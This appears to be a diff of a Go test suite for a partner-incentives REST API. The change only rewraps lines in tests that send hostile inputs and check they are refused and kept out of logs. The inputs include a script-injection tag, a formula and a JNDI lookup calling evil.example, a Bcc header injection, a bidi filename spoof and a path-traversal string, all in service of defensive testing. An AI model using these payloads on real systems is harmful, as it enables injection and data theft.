@@ -24,29 +24,42 @@ const marker = "Wanda Private"
 
 // hostile are the values that every field of every body is given.
 var hostile = map[string]any{
-	"null": nil, "true": true, "zero": 0, "a negative number": -1, "a fraction": 1.5, "a large number": json.Number("9007199254740993"),
-	"a larger number": json.Number("123456789012345678901234567890"), "an exponent": json.Number("1e300"), "no text": "", "a space": " ",
-	"a text": "text", "an empty list": []any{}, "a list": []any{"text"}, "a list in a list": []any{[]any{}}, "an empty object": story.Object{},
-	"an object":   story.Object{"unknown": "text"},
-	"a long text": marker + strings.Repeat("x", 3000), "a control character": marker + "\x00", "an escape": marker + "\x1b[31m",
-	"a bidi override": marker + "\u202egpj.exe", "a line end": marker + "\r\nBcc: eve@evil.example", "a separator of lines": marker + "\u2028",
-	"no character": marker + "\ufffd", "a byte order mark": "\ufeff" + marker, "a script": "<script>alert('" + marker + "')</script>",
-	"a formula": "=HYPERLINK(\"http://evil.example\";\"" + marker + "\")", "a template": "{{.}}${jndi:ldap://evil.example}%s%n",
-	"a key of the table": "PARTNER#%23\x01\U0010ffff", "a number as text": "40", "a percent": "100%", "right to left": "شركة كونتوسو",
-	"a combined letter": "e\u0301", "an emoji": "👩‍💻", "a GUID in braces": "{3f2504e0-4f89-41d3-9a0c-0305e82c3301}", "a date that is none": "2026-02-30",
-	"an amount with a sign": "-1.00", "an amount with three places": "1.000", "the largest deal": "1000000000000.00", "more than that": "1000000000000.01",
-	"an exponent as text": "1e3", "two at signs": "a@b@contoso.com", "an address without a domain": "ana@", "an address with a name": "Ana <ana@contoso.com>",
+	"null": nil, "true": true, "zero": 0, "a negative number": -1, "a fraction": 1.5,
+	"a large number":  json.Number("9007199254740993"),
+	"a larger number": json.Number("123456789012345678901234567890"), "an exponent": json.Number("1e300"), "no text": "",
+	"a space": " ",
+	"a text":  "text", "an empty list": []any{}, "a list": []any{"text"}, "a list in a list": []any{[]any{}},
+	"an empty object": story.Object{},
+	"an object":       story.Object{"unknown": "text"},
+	"a long text":     marker + strings.Repeat("x", 3000), "a control character": marker + "\x00", "an escape": marker +
+		"\x1b[31m",
+	"a bidi override": marker + "\u202egpj.exe", "a line end": marker + "\r\nBcc: eve@evil.example",
+	"a separator of lines": marker + "\u2028",
+	"no character":         marker + "\ufffd", "a byte order mark": "\ufeff" + marker, "a script": "<script>alert('" +
+		marker +
+		"')</script>",
+	"a formula":          "=HYPERLINK(\"http://evil.example\";\"" + marker + "\")",
+	"a template":         "{{.}}${jndi:ldap://evil.example}%s%n",
+	"a key of the table": "PARTNER#%23\x01\U0010ffff", "a number as text": "40", "a percent": "100%",
+	"right to left":     "شركة كونتوسو",
+	"a combined letter": "e\u0301", "an emoji": "👩‍💻", "a GUID in braces": "{3f2504e0-4f89-41d3-9a0c-0305e82c3301}",
+	"a date that is none":   "2026-02-30",
+	"an amount with a sign": "-1.00", "an amount with three places": "1.000", "the largest deal": "1000000000000.00",
+	"more than that":      "1000000000000.01",
+	"an exponent as text": "1e3", "two at signs": "a@b@contoso.com", "an address without a domain": "ana@",
+	"an address with a name": "Ana <ana@contoso.com>",
 }
 
-// references are the fields whose values only the table or each other can judge: that they are refused is no word of the description.
+// references are the fields whose values only the table or each other can judge: that they are refused is no word of
+// the description.
 var references = []string{
 	"/locationId", "/engagementIds/", "/completedOn", "/opportunityId",
 	"/customerContact/name", "/customerContact/email", "/partnerContact/name", "/partnerContact/email", // D23
 }
 
-// TestEveryFieldIsJudgedAsDescribed gives every field of every body every hostile value, takes it away, and adds an unknown
-// one beside it. What the description refuses is refused with exactly the pointers that it gives, and nothing is done; what
-// it takes is not refused as invalid.
+// TestEveryFieldIsJudgedAsDescribed gives every field of every body every hostile value, takes it away, and adds an
+// unknown one beside it. What the description refuses is refused with exactly the pointers that it gives, and nothing
+// is done; what it takes is not refused as invalid.
 func TestEveryFieldIsJudgedAsDescribed(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
@@ -152,7 +165,8 @@ func hasEveryField(t *testing.T, at string, schema map[string]any, value any) {
 	}
 }
 
-// excluded says that the field cannot go with all others: a branch of the schema, or the condition that opens it, names it.
+// excluded says that the field cannot go with all others: a branch of the schema, or the condition that opens it, names
+// it.
 func excluded(schema map[string]any, name string) bool {
 	opens, _ := schema["if"].(map[string]any)
 	required, _ := opens["required"].([]any)
@@ -295,24 +309,35 @@ func TestBodiesThatCannotBeReadAreRefused(t *testing.T) {
 		return `{"unknown":` + strings.Repeat(opening, depth) + "1" + strings.Repeat(closing, depth) + "}"
 	}
 	malformed := map[string]string{
-		"an open brace": "{", "a closing brace": "}", "a wrong bracket": "{]", "no name": `{:1}`, "no value": `{"a":}`, "no colon": `{"a" 1}`,
-		"a comma too many": `{"a":1,}`, "single quotes": `{'a':1}`, "no quotes": `{a:1}`, "a comment": `{/* */}`, "not a number": `{"hours":NaN}`,
-		"a leading zero": `{"hours":040}`, "an open text": `{"a":"`, "a bad escape": `{"a":"\x"}`, "a line end in a text": "{\"a\":\"\n\"}",
-		"a list": `[]`, "a text": `"text"`, "a number": `1`, "null": `null`, "a blank": ` `, "two objects": `{}{}`, "something behind the end": `{} x`,
-		"a byte order mark": "\ufeff{}", "a name twice": `{"hours":1,"hours":1}`, "a name twice, deep": `{"a":{"b":{"c":1,"c":2}}}`,
-		"a name twice, escaped": `{"a":1,"\u0061":2}`, "deep lists": nested("[", "]", 17), "very deep lists": nested("[", "]", 30000),
+		"an open brace": "{", "a closing brace": "}", "a wrong bracket": "{]", "no name": `{:1}`, "no value": `{"a":}`,
+		"no colon":         `{"a" 1}`,
+		"a comma too many": `{"a":1,}`, "single quotes": `{'a':1}`, "no quotes": `{a:1}`, "a comment": `{/* */}`,
+		"not a number":   `{"hours":NaN}`,
+		"a leading zero": `{"hours":040}`, "an open text": `{"a":"`, "a bad escape": `{"a":"\x"}`,
+		"a line end in a text": "{\"a\":\"\n\"}",
+		"a list":               `[]`, "a text": `"text"`, "a number": `1`, "null": `null`, "a blank": ` `,
+		"two objects":              `{}{}`,
+		"something behind the end": `{} x`,
+		"a byte order mark":        "\ufeff{}", "a name twice": `{"hours":1,"hours":1}`,
+		"a name twice, deep":    `{"a":{"b":{"c":1,"c":2}}}`,
+		"a name twice, escaped": `{"a":1,"\u0061":2}`, "deep lists": nested("[", "]", 17), "very deep lists": nested("[", "]",
+			30000),
 		"deep objects": nested(`{"a":`, "}", 17), "very deep objects": nested(`{"a":`, "}", 9000), "form": "decision=accept",
 	}
 	types := map[string]struct {
 		header string
 		want   int
 	}{
-		"text": {"text/plain", 415}, "a form": {"application/x-www-form-urlencoded", 415}, "parts": {"multipart/form-data; boundary=x", 415},
-		"a problem": {"application/problem+json", 415}, "a patch": {"application/merge-patch+json", 415}, "another charset": {"application/json; charset=latin1", 415},
-		"no type": {"", 415}, "nonsense": {";;;", 415}, "a list of types": {"application/json, text/plain", 415},
-		"UTF-8": {"application/json; charset=UTF-8", 0}, "UTF-8 in quotes": {`application/json;charset="utf-8"`, 0}, "capitals": {"Application/JSON", 0},
+		"text": {"text/plain", 415}, "a form": {"application/x-www-form-urlencoded", 415},
+		"parts":     {"multipart/form-data; boundary=x", 415},
+		"a problem": {"application/problem+json", 415}, "a patch": {"application/merge-patch+json", 415},
+		"another charset": {"application/json; charset=latin1", 415},
+		"no type":         {"", 415}, "nonsense": {";;;", 415}, "a list of types": {"application/json, text/plain", 415},
+		"UTF-8": {"application/json; charset=UTF-8", 0}, "UTF-8 in quotes": {`application/json;charset="utf-8"`, 0},
+		"capitals": {"Application/JSON", 0},
 	}
-	numbers := []string{"1e999999999", "-1e999999999", "1e-999999999", "99999999999999999999", "-0", "1.0000000000000000000000000001", strings.Repeat("9", 60000)}
+	numbers := []string{"1e999999999", "-1e999999999", "1e-999999999", "99999999999999999999", "-0",
+		"1.0000000000000000000000000001", strings.Repeat("9", 60000)}
 
 	for _, route := range rest.Routes {
 		if route.Method != http.MethodPost || route.Public() {
@@ -341,7 +366,8 @@ func TestBodiesThatCannotBeReadAreRefused(t *testing.T) {
 				}
 			}
 			for _, number := range numbers {
-				answer := send(`{"hours":` + number + `,"dealSize":` + number + `,"completedOn":` + number + `,"reason":` + number + `,"unknown":` + number + `}`)
+				answer := send(`{"hours":` + number + `,"dealSize":` + number + `,"completedOn":` + number + `,"reason":` + number +
+					`,"unknown":` + number + `}`)
 				changedNothing(t, number[:min(20, len(number))], answer)
 				want := 422
 				if len(answer.Body) > 0 && 5*len(number) > rest.MaxBody {
@@ -383,8 +409,9 @@ func TestUnknownDoubledAndEmptyParametersAreRefused(t *testing.T) {
 	wrong := map[string][]string{
 		"limit":  {"0", "101", "-1", "1.5", "ten", "1e1", " 5", "5 ", "99999999999999999999", "٣", "0x10"},
 		"cursor": {"x", "AAAA", strings.Repeat("A", 200), "=", "../..", "\x00", "é"},
-		"tab":    {"Eligible", "all", "eligible,complete"}, "state": {"Active", "any", "active ended"}, "status": {"open", "Completed", "completed,expired"},
-		"type": {"cosell", "co-sell,partner-led"}, "q": {strings.Repeat("x", 121), "a\x00b", "\u202e"},
+		"tab":    {"Eligible", "all", "eligible,complete"}, "state": {"Active", "any", "active ended"},
+		"status": {"open", "Completed", "completed,expired"},
+		"type":   {"cosell", "co-sell,partner-led"}, "q": {strings.Repeat("x", 121), "a\x00b", "\u202e"},
 	}
 	for _, route := range rest.Routes {
 		if !strings.HasPrefix(route.Path, "/v1/") {
@@ -463,9 +490,12 @@ func TestAPathThatLeadsNowhereIsNotFound(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	ids := []string{
-		"x", " ", ".", "..", "%", "#", "?", "\x00", "a\x00b", "\x01", "\u202e", "\U0010ffff", "é", "👩‍💻", "a b", "a/b", "../../etc/passwd", "ENGAGEMENTS",
-		"CLAIM#1", "%2F", "null", "-1", "'", `"`, "<script>", "{claimId}", strings.Repeat("x", 1024), strings.Repeat("é", 1024), strings.Repeat("%", 2000),
-		"01AN4Z07BY79KA1307SR9X4MV3", "01AN4Z07BY79KA1307SR9X4MV3-", "01AN4Z07BY79KA1307SR9X4MV3-zz", "R", "R-", strings.Repeat("A", 43) + ".x",
+		"x", " ", ".", "..", "%", "#", "?", "\x00", "a\x00b", "\x01", "\u202e", "\U0010ffff", "é", "👩‍💻", "a b", "a/b",
+		"../../etc/passwd", "ENGAGEMENTS",
+		"CLAIM#1", "%2F", "null", "-1", "'", `"`, "<script>", "{claimId}", strings.Repeat("x", 1024),
+		strings.Repeat("é", 1024), strings.Repeat("%", 2000),
+		"01AN4Z07BY79KA1307SR9X4MV3", "01AN4Z07BY79KA1307SR9X4MV3-", "01AN4Z07BY79KA1307SR9X4MV3-zz", "R", "R-",
+		strings.Repeat("A", 43) + ".x",
 		strings.Repeat("A", 43) + ".01AN4Z07BY79KA1307SR9X4MV3-" + strings.Repeat("c", 200),
 	}
 	for _, route := range rest.Routes {
@@ -512,7 +542,8 @@ func TestACursorServesItsCallerAndQueryAlone(t *testing.T) {
 	roles := []mci.Role{mci.IncentivesUser, mci.ReferralAdmin}
 	token := localtest.Token(t, w.partner.ID, w.partner.User, roles...)
 	page := "/v1/engagements/" + w.engagement + "/customers"
-	for _, path := range []string{page + "?limit=1", page + "?limit=1&tab=eligible", page + "?limit=1&q=cust", "/v1/claims?limit=1", "/v1/claims?limit=1&engagementId=" + w.engagement, "/v1/referrals?limit=1"} {
+	for _, path := range []string{page + "?limit=1", page + "?limit=1&tab=eligible", page + "?limit=1&q=cust",
+		"/v1/claims?limit=1", "/v1/claims?limit=1&engagementId=" + w.engagement, "/v1/referrals?limit=1"} {
 		cursor, _ := localtest.Call(t, "GET", path, token, nil).Expect(t, 200).JSON(t)["cursor"].(string)
 		if cursor == "" {
 			t.Errorf("%s gives no cursor", path)
@@ -530,21 +561,25 @@ func TestACursorServesItsCallerAndQueryAlone(t *testing.T) {
 			"in another role":    {own, localtest.Token(t, w.partner.ID, w.partner.User, append(roles, mci.FieldSeller)...)},
 			"tampered with":      {path + "&cursor=" + url.QueryEscape(string(tampered)), token},
 			"cut":                {path + "&cursor=" + url.QueryEscape(cursor[:len(cursor)-2]), token},
-			"for another list":   {map[bool]string{true: "/v1/referrals", false: "/v1/claims"}[base == "/v1/claims"] + "?cursor=" + url.QueryEscape(cursor), token},
-			"for another page":   {"/v1/engagements/" + second + "/customers?cursor=" + url.QueryEscape(cursor), token},
-			"for another query":  {own + map[bool]string{true: "&type=co-sell", false: map[bool]string{true: "&status=expired", false: "&tab=complete"}[base == "/v1/claims"]}[base == "/v1/referrals"], token},
+			"for another list": {map[bool]string{true: "/v1/referrals", false: "/v1/claims"}[base == "/v1/claims"] +
+				"?cursor=" + url.QueryEscape(cursor), token},
+			"for another page": {"/v1/engagements/" + second + "/customers?cursor=" + url.QueryEscape(cursor), token},
+			"for another query": {own + map[bool]string{true: "&type=co-sell", false: map[bool]string{true: "&status=expired",
+				false: "&tab=complete"}[base == "/v1/claims"]}[base == "/v1/referrals"], token},
 		} {
 			if what == "for another query" && strings.Contains(path, "tab=") {
 				continue
 			}
-			if problem := story.Refused(t, localtest.Call(t, "GET", refused.path, refused.token, nil), 422, mci.Invalid); problem.Pointers() != "/cursor" {
+			if problem := story.Refused(t, localtest.Call(t, "GET", refused.path, refused.token, nil), 422,
+				mci.Invalid); problem.Pointers() != "/cursor" {
 				t.Errorf("a cursor of %s used %s: mistakes at %s", path, what, problem.Pointers())
 			}
 		}
 	}
 }
 
-// TestLogsNameNobody runs after the tests beside it in this file have sent what they have: it is about all that was logged.
+// TestLogsNameNobody runs after the tests beside it in this file have sent what they have: it is about all that was
+// logged.
 func TestLogsNameNobody(t *testing.T) {
 	w := newWorld(t)
 	for _, route := range rest.Routes {
@@ -558,7 +593,8 @@ func TestLogsNameNobody(t *testing.T) {
 	}
 	for _, function := range platform.Functions {
 		log := localtest.Logs(t, function.Name)
-		for _, secret := range []string{marker, "Kim Contact", "Pat Partner", "contact@", "pat@partner.example", "555 0100", "Customer-", "The claim of", "A reason.", "Notes."} {
+		for _, secret := range []string{marker, "Kim Contact", "Pat Partner", "contact@", "pat@partner.example", "555 0100",
+			"Customer-", "The claim of", "A reason.", "Notes."} {
 			if at := strings.Index(log, secret); at >= 0 {
 				t.Errorf("%s logs %q: …%s…", function.Name, secret, log[max(0, at-200):min(len(log), at+100)])
 			}
